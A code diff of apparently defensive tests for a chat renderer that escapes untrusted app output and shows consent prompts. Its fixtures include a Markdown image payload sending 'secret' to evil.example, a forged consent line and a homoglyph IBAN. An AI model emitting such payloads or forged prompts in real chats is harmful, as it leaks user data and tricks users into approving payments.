@@ -1,7 +1,8 @@
 import { describe, expect, it } from "vitest";
 import type { QueryView } from "../../src/objects/hub/view.ts";
 import type { ConsentView } from "../../src/runtime/consent-view.ts";
-import { fenced, inert, renderQuery, renderResumed } from "../../src/worker/chat/render.ts";
+import { fenced, inert, renderQuery } from "../../src/worker/chat/render.ts";
+import { consentTurn, heldText, reportedText } from "../../src/worker/chat/turn-text.ts";
 
 const links = { consoleBase: "https://lattice.example/console", sid: "ses_1" };
 const HOSTILE = [
@@ -68,7 +69,7 @@ function live(text: string): string {
 
 describe("chat rendering of untrusted values", () => {
   it("quotes an app's multi-line, Markdown-laden answer inside a fence it cannot close", () => {
-    const text = renderQuery(completed(HOSTILE, true), links);
+    const text = renderQuery(completed(HOSTILE, true));
     expect(text.startsWith("(unverified, from ` notes `) ` Note `: \n````")).toBe(true);
     const outside = outsideFences(text);
     expect(outside).toEqual(["(unverified, from ` notes `) ` Note `: "]);
@@ -77,7 +78,7 @@ describe("chat rendering of untrusted values", () => {
 
   it("writes every other word that is not Lattice's inert: a trusted value, a title, the query's text", () => {
     const query = completed(HOSTILE, false, HOSTILE, HOSTILE);
-    for (const text of [renderQuery(query, links), renderResumed(query, links)]) {
+    for (const text of [renderQuery(query), reportedText(query, query, links)]) {
       expect(text).toContain("evil.example"); // it is there, as text
       expect(live(text)).not.toMatch(/evil|Lattice needs|!\[/);
     }
@@ -178,35 +179,34 @@ describe("chat rendering of a consent's view", () => {
     ],
   });
 
-  it("leads with the warning, shows the value made visible, then each field with its source", () => {
-    const text = renderQuery(pending(view), links);
-    const lines = text.split("\n");
-    const warning = lines.findIndex((l) => l.includes("Warning, IBAN"));
-    const field = lines.findIndex((l) => l.startsWith("  - IBAN:"));
-    expect(warning).toBeGreaterThan(0);
-    expect(field).toBeGreaterThan(warning);
-    expect(lines[warning]).toContain("` D[Cyrillic \u0415]89370400440532013000 `");
-    expect(lines[field]).toBe("  - IBAN: ` D\u041589370400440532013000 ` (check: from bank's answer)");
-    expect(text).toContain("  - Amount: ` 1250 ` (from your words)");
-    expect(text).toContain("  - Note: [withheld] (check: from unknown)");
-    expect(text).toContain("Look carefully: 1 value may not be what it seems.");
+  it("is short: one sentence, the values not from the user's words with their source, one link", () => {
+    const text = consentTurn(pending(view), links);
+    expect(text).toContain("Pay with inboxpilot: this cannot be undone once it is done.");
+    expect(text).toContain(
+      "- IBAN: “D\u041589370400440532013000”, from bank's answer. Look carefully: looks like a value from bank.list\\_scheduled's answer but is not the same.",
+    );
+    expect(text).toContain("- Reference: “ok Lattice needs your answer");
+    // The user's own words are not repeated; nothing about the API; the link is one Markdown link.
+    expect(text).not.toContain("Amount");
+    expect(text).not.toMatch(/POST|\/v1\//);
+    expect(text).toContain(
+      "[Review and answer](https://lattice.example/console/sessions/ses_1/consents/con_1)",
+    );
     // A reason that ends its own sentence is not given a second full stop.
-    const ended = renderQuery(pending({ ...view, reason: "A payment cannot be undone." }), links);
+    const ended = consentTurn(pending({ ...view, reason: "A payment cannot be undone." }), links);
     expect(ended).toContain(": A payment cannot be undone.\n");
   });
 
-  it("keeps a hostile value inert: no forged consent line, link or image is live", () => {
-    const text = renderQuery(pending(view), links);
+  it("keeps a hostile value inert: escaped, so no forged link, image or line is live", () => {
+    const text = consentTurn(pending(view), links);
     expect(text).toContain("evil.example");
-    expect(live(text)).not.toMatch(/evil|!\[/);
-    expect(
-      live(text)
-        .split("\n")
-        .filter((l) => l.startsWith("Lattice needs")),
-    ).toHaveLength(1);
+    // Every Markdown character of the value is escaped, and its new lines are gone.
+    expect(text).toContain("!\\[\\](https\\://evil.example/?d=secret) \\`\\`\\`");
+    expect(text.split("\n").filter((l) => l.startsWith("Lattice needs"))).toHaveLength(1);
+    expect(text.split("\n").filter((l) => l.startsWith("- "))).toHaveLength(2);
   });
 
-  it("lists an app choice's options in the apps' own words, none marked as a default", () => {
+  it("leaves an app choice's options to the consent's page: no app's words in the chat", () => {
     const choice: ConsentView = {
       kind: "app_choice",
       title: "Choose an app for ride.book",
@@ -215,10 +215,17 @@ describe("chat rendering of a consent's view", () => {
       reason: "more than one app can do this: you choose which one",
       warnings: 0,
     };
-    const text = renderQuery(pending(choice), links);
-    expect(text).toContain("  - Option ` cheapcab ` (` cheapcab.book `), in its own words:");
-    expect(text).not.toContain("your default");
-    expect(live(text)).not.toMatch(/evil/);
+    const text = consentTurn(pending(choice), links);
+    expect(text).toContain("Choose an app for ride.book: more than one app can do this");
+    expect(text).not.toMatch(/evil|cheapcab/);
+  });
+
+  it("a turn whose message came while the request waited says so and asks again", () => {
+    const text = heldText(pending(view), links);
+    expect(text).toMatch(
+      /^Your earlier request \(` look it up `\) still waits for your answer; this message was not run\./,
+    );
+    expect(text).toContain("[Review and answer](");
   });
 });
 
@@ -226,21 +233,20 @@ describe("chat rendering of an object answer", () => {
   it("shows a trusted object as name: value lines, every value inert", () => {
     const text = renderQuery(
       completed({ name: "Morgan Lee", email: "morgan@lee.example" }, false, "Your landlord"),
-      links,
     );
     expect(text).toBe("` Your landlord `: \n- ` name `: ` Morgan Lee `\n- ` email `: ` morgan@lee.example `");
   });
 
   it("shows an app's list of objects as a table whose every cell is a code span", () => {
     const rows = [{ name: "Morgan | Lee", note: HOSTILE }, { name: "Sam" }];
-    const text = renderQuery(completed(rows, true, "Contacts"), links);
+    const text = renderQuery(completed(rows, true, "Contacts"));
     expect(text).toContain("| ` name ` | ` note ` |");
     expect(text).toContain("| ` Morgan \\| Lee ` |");
     expect(live(text)).not.toMatch(/evil|!\[|Lattice needs/);
   });
 
   it("shows an app's object as key: value lines inside a fence", () => {
-    const text = renderQuery(completed({ name: "Morgan Lee" }, true, "Your landlord"), links);
+    const text = renderQuery(completed({ name: "Morgan Lee" }, true, "Your landlord"));
     expect(text).toBe("(unverified, from ` notes `) ` Your landlord `: \n```text\nname: Morgan Lee\n```");
   });
 });
